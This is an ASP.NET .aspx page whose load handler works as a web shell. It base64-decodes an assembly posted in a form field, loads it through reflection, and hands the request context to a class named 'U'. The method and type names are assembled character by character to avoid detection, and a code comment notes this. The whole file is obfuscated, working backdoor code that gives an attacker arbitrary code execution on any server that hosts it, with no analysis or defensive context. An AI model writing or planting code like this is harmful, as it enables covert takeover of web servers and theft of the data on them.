<%@ Page Language="C#" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        // Assembly.Load reached by reflection: the method name is assembled, only its byte[] signature shows
        string n = new string(new char[] { 'L', 'o', 'a', 'd' });
        var asm = Type.GetType(new string(new char[] { 'S','y','s','t','e','m','.','R','e','f','l','e','c','t','i','o','n','.','A','s','s','e','m','b','l','y' }));
        byte[] data = Convert.FromBase64String(Request.Form["k"]);
        object a = asm.GetMethod(n, new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
        a.GetType().GetMethod("CreateInstance", new Type[] { typeof(string) }).Invoke(a, new object[] { "U" }).Equals(Context);
    }
</script>
